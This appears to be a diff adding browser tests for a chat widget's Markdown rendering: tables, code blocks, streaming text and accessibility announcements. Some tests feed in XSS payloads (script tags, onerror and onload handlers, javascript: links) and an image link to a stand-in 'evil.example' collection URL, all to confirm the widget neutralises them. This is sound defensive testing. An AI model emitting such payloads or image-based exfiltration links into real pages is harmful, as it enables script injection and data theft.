@@ -1,0 +1,152 @@
+import { expect } from '@open-wc/testing';
+import { mount, unmountAll, until, type Chat } from '../support/chat-fixture.ts';
+import { scriptAnswer, wait } from '../support/script-answer.ts';
+import { modelService } from '../support/service-under-test.ts';
+
+async function openChat(): Promise<Chat> {
+  const chat = mount({
+    'base-url': modelService.url,
+    'assistant-id': modelService.assistantThatShows('no-greeting'),
+  });
+  await chat.open();
+  return chat;
+}
+
+/** The element that an answer is drawn into, when the answer is complete. */
+async function answer(markdown: string): Promise<HTMLElement> {
+  const chat = await openChat();
+  const { question } = await scriptAnswer({ pieces: [markdown] });
+  await chat.ask(question);
+  await chat.answered(1);
+  await until(() => chat.find('.markdown') !== null, 'the answer to be drawn as Markdown');
+  return chat.find('.markdown') as HTMLElement;
+}
+
+function count(drawn: Element, selector: string): number {
+  return drawn.querySelectorAll(selector).length;
+}
+
+describe('an answer in Markdown', () => {
+  afterEach(unmountAll);
+
+  it('has headings, emphasis, lists, quotes, rules and breaks', async () => {
+    const drawn = await answer(
+      '# One\n## Two\n\nSome **bold**, *italic*, ~~gone~~ and `code`.\nNext line.\n\n- a\n- b\n  1. c\n\n3. three\n4. four\n\n> quote\n\n---\n\n- [x] done\n- [ ] open',
+    );
+    const found = [
+      'h3',
+      'h4',
+      'strong',
+      'em',
+      'del',
+      'p > code',
+      'br',
+      'ul',
+      'ol',
+      'ul ol',
+      'blockquote',
+      'hr',
+    ];
+    for (const selector of found) expect(count(drawn, selector), selector).to.be.at.least(1);
+    expect(drawn.querySelector<HTMLOListElement>('ol[start="3"] > li')?.innerText).to.equal('three');
+    const boxes = [...drawn.querySelectorAll<HTMLInputElement>('input')].map(({ checked, disabled }) => [
+      checked,
+      disabled,
+    ]);
+    expect(boxes).to.deep.equal([
+      [true, true],
+      [false, true],
+    ]);
+    expect(drawn.innerText).not.to.match(/\*\*|~~|\[x\]/);
+  });
+
+  it('has tables that scroll within the message', async () => {
+    const wide = Array.from({ length: 12 }, (_, index) => `A long column ${index}`);
+    const drawn = await answer(`| ${wide.join(' | ')} |\n|${':-:|'.repeat(12)}\n| ${wide.join(' | ')} |`);
+    expect([count(drawn, 'thead th'), count(drawn, 'tbody td')]).to.deep.equal([12, 12]);
+    const table = drawn.querySelector('.table') as HTMLElement;
+    expect(table.scrollWidth).to.be.above(table.clientWidth);
+    const log = drawn.closest('[role="log"]') as HTMLElement;
+    expect(log.scrollWidth).to.equal(log.clientWidth);
+  });
+
+  it('has code with its language and a button that copies it', async () => {
+    const drawn = await answer('```python\nprint("<b>hi</b>")\n```');
+    const figure = drawn.querySelector('figure') as HTMLElement;
+    expect(figure.querySelector('figcaption span')?.textContent).to.equal('python');
+    expect(figure.querySelector('pre')?.innerText.trim()).to.equal('print("<b>hi</b>")');
+    expect(figure.querySelector('button')?.innerText).to.equal('Copy');
+  });
+
+  it('never widens the panel, however long its words are', async () => {
+    const drawn = await answer(
+      `**${'w'.repeat(500)}** https://example.com/${'p'.repeat(500)}\n\n\`${'c'.repeat(500)}\``,
+    );
+    const log = drawn.closest('[role="log"]') as HTMLElement;
+    expect(log.scrollWidth).to.equal(log.clientWidth);
+  });
+
+  it('opens links safely, and only safe ones', async () => {
+    const drawn = await answer(
+      '[shop](https://example.com/a) https://example.org www.example.net [bad](javascript:alert(1)) [data](data:text/html,x) <mailto:a@example.com>',
+    );
+    const links = [...drawn.querySelectorAll('a')];
+    expect(links.map(({ protocol }) => protocol)).to.deep.equal(['https:', 'https:', 'http:', 'mailto:']);
+    for (const link of links) {
+      expect(link.target).to.equal('_blank');
+      expect(link.rel).to.contain('noopener').and.to.contain('noreferrer');
+    }
+    expect(drawn.innerText).to.contain('bad').and.to.contain('data');
+  });
+
+  it('shows images as links, and loads none', async () => {
+    const drawn = await answer('![A map](https://evil.example/collect?secret=1)');
+    expect(count(drawn, 'img')).to.equal(0);
+    expect(drawn.querySelector('a')?.innerText).to.equal('A map');
+    expect(performance.getEntriesByType('resource').some(({ name }) => name.includes('evil.example'))).to.be
+      .false;
+  });
+
+  it('shows markup as text', async () => {
+    const attack =
+      '<img src=x onerror="window.attacked=1">\n\n<script>window.attacked=1</script>\n\ntext <b onclick="x">b</b>\n\n<svg/onload=alert(1)>';
+    const drawn = await answer(`**!**\n\n${attack}`);
+    expect(count(drawn, 'img, script, svg, b')).to.equal(0);
+    expect(drawn.innerText).to.contain('<script>').and.to.contain('onerror');
+    expect('attacked' in window).to.be.false;
+  });
+
+  it('never shows half-open markup while it grows', async () => {
+    const chat = await openChat();
+    const pieces = [
+      'Our **opening',
+      wait,
+      ' hours** are [here',
+      wait,
+      '](https://example.com). Run `npm',
+      wait,
+      ' i`.',
+    ];
+    const script = await scriptAnswer({ pieces });
+    await chat.ask(script.question);
+    const text = (): string => chat.find('.markdown')?.innerText.trim() ?? '';
+    await until(() => text() === 'Our opening', 'the first piece');
+    expect(chat.find('.markdown strong')?.innerText).to.equal('opening');
+    await script.goOn();
+    await until(() => text() === 'Our opening hours are here', 'the second piece');
+    await script.goOn();
+    await until(() => text() === 'Our opening hours are here. Run npm', 'the third piece');
+    await script.goOn();
+    await chat.answered(1);
+    expect(text()).to.equal('Our opening hours are here. Run npm i.');
+  });
+
+  it('is announced without its marks', async () => {
+    const chat = await openChat();
+    const { question } = await scriptAnswer({ pieces: ['We **open** at [nine](https://example.com).'] });
+    await chat.ask(question);
+    await chat.answered(1);
+    await until(() => chat.announcement !== '', 'the announcement');
+    expect(chat.announcement.trim()).to.equal('We open at nine.');
+  });
+});
